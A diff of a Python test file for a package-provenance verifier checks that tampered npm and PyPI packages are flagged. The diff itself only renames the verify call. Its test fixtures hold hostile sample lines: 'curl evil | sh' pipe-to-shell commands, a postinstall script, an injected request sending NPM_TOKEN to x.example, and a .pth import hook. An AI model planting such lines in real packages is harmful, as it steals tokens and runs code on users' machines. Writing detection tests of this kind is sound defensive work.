@@ -5,7 +5,7 @@ from __future__ import annotations
 import json
 from pathlib import Path
 
-from ossprov import pipeline
+from ossprov import stages
 from ossprov.fixtures.world import World
 from ossprov.model import FileStatus, Severity, Verdict
 from tests.conftest import npm_project
@@ -23,7 +23,7 @@ def plain(world: World, name: str = "plain"):
 
 def test_genuine_plain_package_is_faithful(world: World) -> None:
     _, _, tarball = plain(world)
-    result = pipeline.verify(world.publish_npm(tarball))
+    result = stages.verify(world.publish_npm(tarball))
     assert result.verdict is Verdict.FAITHFUL, result.findings
     assert result.counts["identical"] == 4 and not highs(result)
 
@@ -31,7 +31,7 @@ def test_genuine_plain_package_is_faithful(world: World) -> None:
 def test_line_injected_into_main_module(world: World) -> None:
     _, pkg, tarball = plain(world)
     evil = (pkg / "index.js").read_bytes() + b"require('child_process').exec('curl evil | sh');\n"
-    result = pipeline.verify(world.publish_npm(World.tamper_npm(tarball, {"index.js": evil})))
+    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"index.js": evil})))
     assert result.verdict is Verdict.MISMATCH
     assert any(f.path == "index.js" and f.rule == "OSP101" for f in highs(result))
     diff = next(r for r in result.file_results if r.path == "index.js").diff
@@ -41,7 +41,7 @@ def test_line_injected_into_main_module(world: World) -> None:
 def test_new_module_required_from_main(world: World) -> None:
     _, pkg, tarball = plain(world)
     main = b"require('./payload');\n" + (pkg / "index.js").read_bytes()
-    result = pipeline.verify(world.publish_npm(World.tamper_npm(tarball, {"index.js": main, "payload.js": b"steal();\n"})))
+    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"index.js": main, "payload.js": b"steal();\n"})))
     assert result.verdict is Verdict.MISMATCH
     paths = {f.path for f in highs(result)}
     assert {"index.js", "payload.js"} <= paths
@@ -52,7 +52,7 @@ def test_postinstall_added_to_package_json(world: World) -> None:
     _, pkg, tarball = plain(world)
     manifest = json.loads((pkg / "package.json").read_text())
     manifest["scripts"] = {"postinstall": "node steal.js"}
-    result = pipeline.verify(world.publish_npm(World.tamper_npm(tarball, {"package.json": json.dumps(manifest).encode()})))
+    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"package.json": json.dumps(manifest).encode()})))
     assert result.verdict is Verdict.MISMATCH
     assert any(f.rule == "OSP111" and "postinstall" in f.message for f in highs(result))
 
@@ -61,7 +61,7 @@ def test_dependency_added_like_event_stream(world: World) -> None:
     _, pkg, tarball = plain(world)
     manifest = json.loads((pkg / "package.json").read_text())
     manifest["dependencies"] = {"flatmap-stream": "^0.1.0"}
-    result = pipeline.verify(world.publish_npm(World.tamper_npm(tarball, {"package.json": json.dumps(manifest).encode()})))
+    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"package.json": json.dumps(manifest).encode()})))
     assert any(f.rule == "OSP113" and "flatmap-stream" in f.message for f in highs(result))
 
 
@@ -70,7 +70,7 @@ def test_publish_time_package_json_rewrites_are_normalized(world: World) -> None
     manifest = json.loads((pkg / "package.json").read_text())
     manifest.update({"gitHead": "abc", "_id": "plain@1.0.0", "readmeFilename": "README.md"})
     text = json.dumps(manifest, indent=4).encode()
-    result = pipeline.verify(world.publish_npm(World.tamper_npm(tarball, {"package.json": text})))
+    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"package.json": text})))
     assert result.verdict is Verdict.FAITHFUL
     assert next(r for r in result.file_results if r.path == "package.json").status is FileStatus.NORMALIZED
 
@@ -78,7 +78,7 @@ def test_publish_time_package_json_rewrites_are_normalized(world: World) -> None
 def test_crlf_line_endings_are_normalized(world: World) -> None:
     _, pkg, tarball = plain(world)
     crlf = (pkg / "lib/helper.js").read_bytes().replace(b"\n", b"\r\n")
-    result = pipeline.verify(world.publish_npm(World.tamper_npm(tarball, {"lib/helper.js": crlf})))
+    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"lib/helper.js": crlf})))
     helper = next(r for r in result.file_results if r.path == "lib/helper.js")
     assert helper.status is FileStatus.NORMALIZED and "line endings" in helper.reason
 
@@ -102,7 +102,7 @@ def built(world: World):
 
 def test_build_output_is_generated_and_vouched_by_source_map(world: World) -> None:
     _, tarball = built(world)
-    result = pipeline.verify(world.publish_npm(tarball))
+    result = stages.verify(world.publish_npm(tarball))
     assert result.verdict is Verdict.FAITHFUL_WITH_BUILD_OUTPUT, result.findings
     statuses = {r.path: r.status for r in result.file_results}
     assert statuses["dist/index.js"] is FileStatus.GENERATED
@@ -115,7 +115,7 @@ def test_minified_bundle_with_injected_code_despite_source_map(world: World) -> 
     pkg, tarball = built(world)
     bundle = (pkg / "dist/index.js").read_bytes().replace(
         b'"use strict";', b'"use strict";require("https").get("https://x.example/"+process.env.NPM_TOKEN);')
-    result = pipeline.verify(world.publish_npm(World.tamper_npm(tarball, {"dist/index.js": bundle})))
+    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"dist/index.js": bundle})))
     assert result.verdict is Verdict.MISMATCH
     assert any(f.rule == "OSP121" and f.path == "dist/index.js" for f in highs(result))
 
@@ -124,13 +124,13 @@ def test_source_map_embedding_different_source(world: World) -> None:
     pkg, tarball = built(world)
     doc = json.loads((pkg / "dist/index.js.map").read_text())
     doc["sourcesContent"] = ["export const greet = () => eval(atob('...'));\n"]
-    result = pipeline.verify(world.publish_npm(World.tamper_npm(tarball, {"dist/index.js.map": json.dumps(doc).encode()})))
+    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"dist/index.js.map": json.dumps(doc).encode()})))
     assert any(f.rule == "OSP122" for f in highs(result))
 
 
 def test_missing_file_from_files_list(world: World) -> None:
     _, tarball = built(world)
-    result = pipeline.verify(world.publish_npm(World.tamper_npm(tarball, {"src/index.ts": None})))
+    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"src/index.ts": None})))
     missing = [r for r in result.file_results if r.status is FileStatus.MISSING]
     assert [r.path for r in missing] == ["src/index.ts"]
 
@@ -138,7 +138,7 @@ def test_missing_file_from_files_list(world: World) -> None:
 def test_unverifiable_without_repository(world: World) -> None:
     repo, pkg = npm_project(world, "acme/orphan", "orphan", "1.0.0", repository=None)
     repo.commit("release")
-    result = pipeline.verify(world.publish_npm(world.npm_pack(pkg)))
+    result = stages.verify(world.publish_npm(world.npm_pack(pkg)))
     assert result.verdict is Verdict.UNVERIFIABLE and "no source repository" in result.reason
 
 
@@ -148,7 +148,7 @@ def test_pypi_sdist_and_wheel(world: World) -> None:
     repo.commit("release", files)
     meta = {"Project-URL": ["Source, https://github.com/acme/snake"]}
     purl = world.publish_pypi("snake", "1.0", files, metadata=meta, wheel_files={"snake/__init__.py": "X = 1\n"})
-    result = pipeline.verify(purl)
+    result = stages.verify(purl)
     assert result.verdict is Verdict.FAITHFUL, result.findings
     assert result.locate.commit == repo.head()
 
@@ -168,7 +168,7 @@ def test_pypi_wheel_with_extra_module_and_pth(world: World, tmp_path: Path) -> N
             dst.writestr(item, src.read(item))
         dst.writestr("wheely/_hook.py", "import os; os.system('id')\n")
         dst.writestr("wheely-hook.pth", "import wheely._hook\n")
-    result = pipeline.verify("pkg:pypi/wheely@2.0", artifact=tampered)
+    result = stages.verify("pkg:pypi/wheely@2.0", artifact=tampered)
     assert result.verdict is Verdict.MISMATCH
     rules = {(f.rule, f.path) for f in highs(result)}
     assert ("OSP131", "wheely-hook.pth") in rules and ("OSP102", "wheely/_hook.py") in rules
@@ -182,7 +182,7 @@ def test_sdist_with_changed_setup_py(world: World, tmp_path: Path) -> None:
     meta = {"Home-page": ["https://github.com/acme/setupy"]}
     evil = {**files, "setup.py": files["setup.py"] + "import os; os.system('curl evil|sh')\n"}
     purl = world.publish_pypi("setupy", "1.0", evil, metadata=meta)
-    result = pipeline.verify(purl)
+    result = stages.verify(purl)
     assert result.verdict is Verdict.MISMATCH
     assert any(f.path == "setup.py" for f in highs(result))
 
@@ -199,7 +199,7 @@ def test_setuptools_sdist_rewrites_are_normalized(world: World) -> None:
     published = {**files, "setup.cfg": rewritten, "src/toolsy.egg-info/PKG-INFO": "Metadata-Version: 2.1\n",
                  "src/toolsy.egg-info/SOURCES.txt": "setup.py\n", "src/toolsy.egg-info/top_level.txt": "toolsy\n"}
     purl = world.publish_pypi("toolsy", "1.0", published, metadata={"Home-page": ["https://github.com/acme/toolsy"]})
-    result = pipeline.verify(purl)
+    result = stages.verify(purl)
     assert result.verdict is Verdict.FAITHFUL, result.findings
     statuses = {r.path: r.status for r in result.file_results}
     assert statuses["setup.cfg"] is FileStatus.NORMALIZED
@@ -211,7 +211,7 @@ def test_setup_cfg_with_a_changed_setting_is_still_caught(world: World) -> None:
     files = {"setup.cfg": "[metadata]\nname = cfgy\nversion = 1.0\n", "cfgy.py": "C = 1\n"}
     repo.commit("release", files)
     evil = {**files, "setup.cfg": "[metadata]\nname = cfgy\nversion = 1.0\n\n[options]\nsetup_requires = evil\n"}
-    result = pipeline.verify(world.publish_pypi("cfgy", "1.0", evil,
+    result = stages.verify(world.publish_pypi("cfgy", "1.0", evil,
                                                 metadata={"Home-page": ["https://github.com/acme/cfgy"]}))
     assert any(f.path == "setup.cfg" and f.severity is Severity.HIGH for f in result.findings)
 
@@ -229,7 +229,7 @@ def test_monorepo_build_from_the_root_with_dual_format_markers(world: World) -> 
     (pkg / "lib/esm/index.js").write_text("export const core = 1;\n")
     (pkg / "lib/esm/package.json").write_text('{"type": "module"}\n')
     (pkg / "LICENSE").write_text("MIT\n")
-    result = pipeline.verify(world.publish_npm(world.npm_pack(pkg)))
+    result = stages.verify(world.publish_npm(world.npm_pack(pkg)))
     assert not highs(result), result.findings
     statuses = {r.path: r for r in result.file_results}
     assert statuses["lib/esm/package.json"].status is FileStatus.GENERATED
@@ -243,5 +243,5 @@ def test_output_package_json_with_more_than_a_type_is_not_a_marker(world: World)
     repo.commit("release")
     (pkg / "dist").mkdir()
     (pkg / "dist/package.json").write_text('{"type": "module", "scripts": {"postinstall": "node x"}}\n')
-    result = pipeline.verify(world.publish_npm(world.npm_pack(pkg)))
+    result = stages.verify(world.publish_npm(world.npm_pack(pkg)))
     assert any(f.path == "dist/package.json" and f.severity is Severity.HIGH for f in result.findings)
